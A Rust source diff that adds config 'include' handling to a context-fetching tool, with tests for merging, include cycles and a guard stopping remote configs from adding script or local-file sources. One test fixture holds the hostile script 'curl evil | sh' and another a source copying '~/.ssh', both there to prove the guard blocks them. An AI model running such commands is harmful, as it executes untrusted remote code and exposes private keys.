@@ -0,0 +1,554 @@
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use crate::config::{resolve_path, ContextConfig, Source};
+
+/// Where an included config lives
+#[derive(Debug, Clone, PartialEq)]
+enum Location {
+    File(PathBuf),
+    Url(reqwest::Url),
+}
+
+impl Location {
+    /// Resolve an `include` entry against the config that contains it
+    fn resolve(parent: &Location, include: &str) -> Result<Location, String> {
+        if include.starts_with("http://") || include.starts_with("https://") {
+            return reqwest::Url::parse(include)
+                .map(Location::Url)
+                .map_err(|e| format!("invalid include URL '{}': {}", include, e));
+        }
+        match parent {
+            Location::File(path) => {
+                let base = path.parent().unwrap_or(Path::new("."));
+                let resolved = resolve_path(base, include);
+                let canonical = std::fs::canonicalize(&resolved)
+                    .map_err(|e| format!("failed to read include '{}': {}", include, e))?;
+                Ok(Location::File(canonical))
+            }
+            // Relative includes inside a remote config are relative to its URL
+            Location::Url(url) => url
+                .join(include)
+                .map(Location::Url)
+                .map_err(|e| format!("invalid include '{}' in {}: {}", include, url, e)),
+        }
+    }
+
+    fn load(&self) -> Result<ContextConfig, String> {
+        let text = match self {
+            Location::File(path) => std::fs::read_to_string(path)
+                .map_err(|e| format!("failed to read include {}: {}", self, e))?,
+            Location::Url(url) => reqwest::blocking::get(url.clone())
+                .and_then(|r| r.error_for_status())
+                .and_then(|r| r.text())
+                .map_err(|e| format!("failed to fetch include {}: {}", self, e))?,
+        };
+        crate::migrate::check_version(&text).map_err(|e| format!("include {}: {}", self, e))?;
+        let mut config: ContextConfig = toml::from_str(&text)
+            .map_err(|e| format!("failed to parse include {}: {}", self, e))?;
+        crate::vars::interpolate_config(&mut config)
+            .map_err(|e| format!("in include {}: {}", self, e))?;
+        config.apply_defaults();
+        if let Location::File(path) = self {
+            config.base_dir = path.parent().unwrap_or(Path::new(".")).to_path_buf();
+        }
+        Ok(config)
+    }
+}
+
+impl std::fmt::Display for Location {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Location::File(path) => write!(f, "{}", path.display()),
+            Location::Url(url) => write!(f, "{}", url),
+        }
+    }
+}
+
+/// Error unless every source in `config` has a distinct name
+fn check_duplicate_names(config: &ContextConfig, location: &Location) -> Result<(), String> {
+    let mut seen = Vec::new();
+    for source in &config.sources {
+        if seen.contains(&source.name()) {
+            return Err(format!(
+                "duplicate source name '{}' in {}",
+                source.name(),
+                location
+            ));
+        }
+        seen.push(source.name());
+    }
+    Ok(())
+}
+
+/// Make a path source's relative `path` absolute, since it was written relative to
+/// the included file rather than the including one
+fn rebase_path_source(source: &mut Source, base_dir: &Path) {
+    if let Source::Path { path, .. } = source {
+        *path = resolve_path(base_dir, path).to_string_lossy().into_owned();
+    }
+}
+
+/// Merge the sources and bundles of every `include` into `config`, which was loaded
+/// from `config_path`. Included sources come first; a local source or bundle with the
+/// same name replaces the included one. Records where included sources came from in
+/// `config.origins`, and the directory of their file in `config.source_dirs`.
+pub fn resolve_includes(config: &mut ContextConfig, config_path: &Path) -> Result<(), String> {
+    let location = Location::File(
+        std::fs::canonicalize(config_path)
+            .map_err(|e| format!("failed to read '{}': {}", config_path.display(), e))?,
+    );
+    check_duplicate_names(config, &location)?;
+    let mut stack = vec![location.clone()];
+    let (sources, bundles) = collect_includes(config, &location, false, &mut stack)?;
+    merge(config, sources, bundles);
+    Ok(())
+}
+
+/// An included source with its origin and, for file includes, its file's directory
+type Included = (Source, String, Option<PathBuf>);
+
+/// Error if a config fetched from a URL adds a source that runs a script or reads
+/// local files, unless the local include entry leading to it has `allow_exec`
+fn check_remote_sources(included: &ContextConfig, child: &Location) -> Result<(), String> {
+    for source in &included.sources {
+        let what = match source {
+            Source::Sh { .. } => "runs a script",
+            Source::Path { .. } => "copies local files",
+            _ => continue,
+        };
+        return Err(format!(
+            "source '{}' from remote include {} {}; set `allow_exec = true` on the include \
+             (`include = [{{ url = \"{}\", allow_exec = true }}]`) if you trust it",
+            source.name(),
+            child,
+            what,
+            child
+        ));
+    }
+    Ok(())
+}
+
+/// Sources (with their origin) and bundles from the includes of `config`, recursively.
+/// `allow_exec` is whether remote configs below a remote `location` may add `sh` and
+/// `path` sources; only include entries in local files can grant it.
+fn collect_includes(
+    config: &ContextConfig,
+    location: &Location,
+    allow_exec: bool,
+    stack: &mut Vec<Location>,
+) -> Result<(Vec<Included>, Vec<crate::config::Bundle>), String> {
+    let mut sources: Vec<Included> = Vec::new();
+    let mut bundles = Vec::new();
+    for include in &config.include {
+        let child = Location::resolve(location, include.location())?;
+        let allow_exec = match location {
+            Location::File(_) => include.allow_exec(),
+            Location::Url(_) => allow_exec,
+        };
+        if stack.contains(&child) {
+            let chain: Vec<String> = stack
+                .iter()
+                .chain(std::iter::once(&child))
+                .map(|l| l.to_string())
+                .collect();
+            return Err(format!("include cycle: {}", chain.join(" -> ")));
+        }
+        let mut included = child.load()?;
+        check_duplicate_names(&included, &child)?;
+        if let (Location::Url(_), false) = (&child, allow_exec) {
+            check_remote_sources(&included, &child)?;
+        }
+
+        stack.push(child.clone());
+        let (nested, nested_bundles) = collect_includes(&included, &child, allow_exec, stack)?;
+        stack.pop();
+        merge(&mut included, nested, nested_bundles);
+
+        for mut source in included.sources {
+            let origin = included
+                .origins
+                .remove(source.name())
+                .unwrap_or_else(|| child.to_string());
+            let mut dir = included.source_dirs.remove(source.name());
+            if let Location::File(_) = child {
+                rebase_path_source(&mut source, &included.base_dir);
+                dir.get_or_insert_with(|| included.base_dir.clone());
+            }
+            match sources.iter().find(|(s, _, _)| s.name() == source.name()) {
+                // The same file reached through two includes
+                Some((_, existing, _)) if *existing == origin => continue,
+                Some((_, existing, _)) => {
+                    return Err(format!(
+                        "source '{}' is defined in both {} and {}",
+                        source.name(),
+                        existing,
+                        origin
+                    ))
+                }
+                None => sources.push((source, origin, dir)),
+            }
+        }
+        for bundle in included.bundles {
+            if !bundles
+                .iter()
+                .any(|b: &crate::config::Bundle| b.name == bundle.name)
+            {
+                bundles.push(bundle);
+            }
+        }
+    }
+    Ok((sources, bundles))
+}
+
+/// Put included sources and bundles ahead of the local ones, letting local ones
+/// with the same name replace them. Included sources also get `config`'s `[defaults]`
+/// and `exclude`, after those of their own file.
+fn merge(config: &mut ContextConfig, sources: Vec<Included>, bundles: Vec<crate::config::Bundle>) {
+    let mut local: Vec<Source> = std::mem::take(&mut config.sources);
+    let mut merged = Vec::with_capacity(sources.len() + local.len());
+    let mut origins = BTreeMap::new();
+    let mut dirs = BTreeMap::new();
+    for (mut source, origin, dir) in sources {
+        match local.iter().position(|s| s.name() == source.name()) {
+            Some(i) => merged.push(local.remove(i)),
+            None => {
+                config.apply_defaults_to(&mut source);
+                origins.insert(source.name().to_string(), origin);
+                if let Some(dir) = dir {
+                    dirs.insert(source.name().to_string(), dir);
+                }
+                merged.push(source);
+            }
+        }
+    }
+    merged.extend(local);
+    config.sources = merged;
+    config.origins.extend(origins);
+    config.source_dirs.extend(dirs);
+
+    let mut local_bundles = std::mem::take(&mut config.bundles);
+    let mut merged_bundles = Vec::new();
+    for bundle in bundles {
+        match local_bundles.iter().position(|b| b.name == bundle.name) {
+            Some(i) => merged_bundles.push(local_bundles.remove(i)),
+            None => merged_bundles.push(bundle),
+        }
+    }
+    merged_bundles.extend(local_bundles);
+    config.bundles = merged_bundles;
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::load_config;
+    use mockito::Server;
+    use std::fs;
+    use tempfile::tempdir;
+
+    #[test]
+    fn test_include_merges_with_local_override() {
+        let dir = tempdir().unwrap();
+        let shared = dir.path().join("shared");
+        let team = dir.path().join("team");
+        fs::create_dir_all(&shared).unwrap();
+        fs::create_dir_all(&team).unwrap();
+        fs::write(
+            shared.join("context.toml"),
+            r#"
+version = 1
+
+[[sources]]
+type = "path"
+name = "style-guide"
+path = "docs/style.md"
+dest = "style.md"
+
+[[sources]]
+type = "url"
+name = "api-spec"
+url = "https://example.com/openapi.yaml"
+dest = "api/openapi.yaml"
+"#,
+        )
+        .unwrap();
+        fs::write(
+            team.join("context.toml"),
+            r#"
+version = 1
+include = ["../shared/context.toml"]
+
+[[sources]]
+type = "url"
+name = "api-spec"
+url = "https://example.com/v2/openapi.yaml"
+dest = "api/openapi.yaml"
+
+[[sources]]
+type = "path"
+name = "notes"
+path = "notes.md"
+dest = "notes.md"
+"#,
+        )
+        .unwrap();
+
+        let config = load_config(team.join("context.toml").to_str().unwrap()).unwrap();
+        let names: Vec<&str> = config.sources.iter().map(|s| s.name()).collect();
+        assert_eq!(names, vec!["style-guide", "api-spec", "notes"]);
+        assert_eq!(
+            config.sources[1].origin(),
+            Some("https://example.com/v2/openapi.yaml")
+        );
+
+        // Included path sources stay relative to the file that declared them
+        let shared = fs::canonicalize(&shared).unwrap();
+        assert_eq!(
+            config.sources[0].origin().map(PathBuf::from),
+            Some(shared.join("docs/style.md"))
+        );
+        assert_eq!(
+            config.origins.get("style-guide").map(String::as_str),
+            Some(shared.join("context.toml").to_str().unwrap())
+        );
+        assert!(!config.origins.contains_key("api-spec"));
+        assert!(!config.origins.contains_key("notes"));
+        assert!(!config.source_dirs.contains_key("notes"));
+    }
+
+    #[test]
+    fn test_included_sh_source_runs_from_its_file() {
+        let dir = tempdir().unwrap();
+        let shared = dir.path().join("shared");
+        fs::create_dir_all(shared.join("nested")).unwrap();
+        fs::write(
+            shared.join("nested/base.toml"),
+            format!(
+                "version = 1\n[[sources]]\ntype = \"sh\"\nname = \"gen\"\nscript = \"cat \\\"${}/notes.txt\\\" > out.txt\"\ndest = \"gen\"\n",
+                crate::sh::CONFIG_DIR_ENV
+            ),
+        )
+        .unwrap();
+        fs::write(shared.join("nested/notes.txt"), "shared notes\n").unwrap();
+        fs::write(
+            shared.join("context.toml"),
+            "version = 1\ninclude = [\"nested/base.toml\"]\nsources = []\n",
+        )
+        .unwrap();
+        let path = dir.path().join("context.toml");
+        fs::write(
+            &path,
+            "version = 1\ninclude = [\"shared/context.toml\"]\nsources = []\n",
+        )
+        .unwrap();
+
+        let config = load_config(path.to_str().unwrap()).unwrap();
+        let nested = fs::canonicalize(shared.join("nested")).unwrap();
+        assert_eq!(config.source_dirs.get("gen"), Some(&nested));
+
+        let Source::Sh { script, .. } = &config.sources[0] else {
+            panic!("expected an sh source");
+        };
+        let out = dir.path().join("out");
+        crate::sh::run_script(script, &out, &config.source_dirs["gen"], false).unwrap();
+        assert_eq!(
+            fs::read_to_string(out.join("out.txt")).unwrap(),
+            "shared notes\n"
+        );
+    }
+
+    #[test]
+    fn test_defaults_and_exclude_apply_to_included_sources() {
+        let dir = tempdir().unwrap();
+        fs::write(
+            dir.path().join("shared.toml"),
+            r#"
+version = 1
+exclude = ["**/*.png"]
+
+[defaults]
+max_file_size = 100
+
+[[sources]]
+type = "repo"
+name = "lib"
+repo = "https://github.com/example/lib.git"
+dest = "lib"
+"#,
+        )
+        .unwrap();
+        let path = dir.path().join("context.toml");
+        fs::write(
+            &path,
+            r#"
+version = 1
+include = ["shared.toml"]
+exclude = ["**/node_modules/**"]
+sources = []
+
+[vars]
+branch = "main"
+
+[defaults]
+branch = "${branch}"
+max_file_size = 5000
+"#,
+        )
+        .unwrap();
+
+        let config = load_config(path.to_str().unwrap()).unwrap();
+        match &config.sources[0] {
+            Source::Repo { branch, files, .. } => {
+                assert_eq!(branch.as_deref(), Some("main"));
+                assert_eq!(
+                    files.as_deref(),
+                    Some(&["!**/*.png".to_string(), "!**/node_modules/**".to_string()][..])
+                );
+            }
+            other => panic!("unexpected source {:?}", other),
+        }
+        // The included file's own default wins
+        assert_eq!(config.sources[0].options().limits.max_file_size, Some(100));
+    }
+
+    #[test]
+    fn test_include_cycle_and_duplicates() {
+        let dir = tempdir().unwrap();
+        fs::write(
+            dir.path().join("a.toml"),
+            "version = 1\ninclude = [\"b.toml\"]\nsources = []\n",
+        )
+        .unwrap();
+        fs::write(
+            dir.path().join("b.toml"),
+            "version = 1\ninclude = [\"a.toml\"]\nsources = []\n",
+        )
+        .unwrap();
+        let err = load_config(dir.path().join("a.toml").to_str().unwrap())
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("include cycle"), "{}", err);
+
+        let source = |name: &str| {
+            format!(
+                "[[sources]]\ntype = \"url\"\nname = \"{}\"\nurl = \"https://example.com\"\ndest = \"x\"\n",
+                name
+            )
+        };
+        fs::write(
+            dir.path().join("one.toml"),
+            format!("version = 1\n{}", source("spec")),
+        )
+        .unwrap();
+        fs::write(
+            dir.path().join("two.toml"),
+            format!("version = 1\n{}", source("spec")),
+        )
+        .unwrap();
+        fs::write(
+            dir.path().join("main.toml"),
+            "version = 1\ninclude = [\"one.toml\", \"two.toml\"]\nsources = []\n",
+        )
+        .unwrap();
+        let err = load_config(dir.path().join("main.toml").to_str().unwrap())
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("defined in both"), "{}", err);
+
+        fs::write(
+            dir.path().join("dup.toml"),
+            format!("version = 1\n{}{}", source("spec"), source("spec")),
+        )
+        .unwrap();
+        let err = load_config(dir.path().join("dup.toml").to_str().unwrap())
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("duplicate source name 'spec'"), "{}", err);
+    }
+
+    #[test]
+    fn test_include_from_url() {
+        let mut server = Server::new();
+        let _m = server
+            .mock("GET", "/base.toml")
+            .with_status(200)
+            .with_body(
+                "version = 1\n[[sources]]\ntype = \"url\"\nname = \"spec\"\nurl = \"https://example.com/spec\"\ndest = \"spec\"\n",
+            )
+            .create();
+        let dir = tempdir().unwrap();
+        let path = dir.path().join("context.toml");
+        fs::write(
+            &path,
+            format!(
+                "version = 1\ninclude = [\"{}/base.toml\"]\nsources = []\n",
+                server.url()
+            ),
+        )
+        .unwrap();
+
+        let config = load_config(path.to_str().unwrap()).unwrap();
+        assert_eq!(config.sources.len(), 1);
+        assert_eq!(
+            config.origins.get("spec"),
+            Some(&format!("{}/base.toml", server.url()))
+        );
+    }
+
+    #[test]
+    fn test_remote_include_needs_allow_exec() {
+        let mut server = Server::new();
+        let _script = server
+            .mock("GET", "/script.toml")
+            .with_status(200)
+            .with_body(
+                "version = 1\n[[sources]]\ntype = \"sh\"\nname = \"gen\"\nscript = \"curl evil | sh\"\ndest = \"gen\"\n",
+            )
+            .create();
+        // A remote config can't grant itself `allow_exec`
+        let _wrapper = server
+            .mock("GET", "/wrapper.toml")
+            .with_status(200)
+            .with_body(
+                "version = 1\ninclude = [{ url = \"keys.toml\", allow_exec = true }]\nsources = []\n",
+            )
+            .create();
+        let _keys = server
+            .mock("GET", "/keys.toml")
+            .with_status(200)
+            .with_body(
+                "version = 1\n[[sources]]\ntype = \"path\"\nname = \"keys\"\npath = \"~/.ssh\"\ndest = \"keys\"\n",
+            )
+            .create();
+        let dir = tempdir().unwrap();
+        let path = dir.path().join("context.toml");
+        let load = |include: String| {
+            fs::write(
+                &path,
+                format!("version = 1\ninclude = [{}]\nsources = []\n", include),
+            )
+            .unwrap();
+            load_config(path.to_str().unwrap()).map_err(|e| e.to_string())
+        };
+
+        let err = load(format!("\"{}/script.toml\"", server.url())).unwrap_err();
+        assert!(err.contains("runs a script"), "{}", err);
+        assert!(err.contains("allow_exec = true"), "{}", err);
+        let err = load(format!("\"{}/wrapper.toml\"", server.url())).unwrap_err();
+        assert!(err.contains("copies local files"), "{}", err);
+
+        let config = load(format!(
+            "{{ url = \"{}/script.toml\", allow_exec = true }}",
+            server.url()
+        ))
+        .unwrap();
+        assert_eq!(config.sources[0].name(), "gen");
+        let config = load(format!(
+            "{{ url = \"{}/wrapper.toml\", allow_exec = true }}",
+            server.url()
+        ))
+        .unwrap();
+        assert_eq!(config.sources[0].name(), "keys");
+    }
+}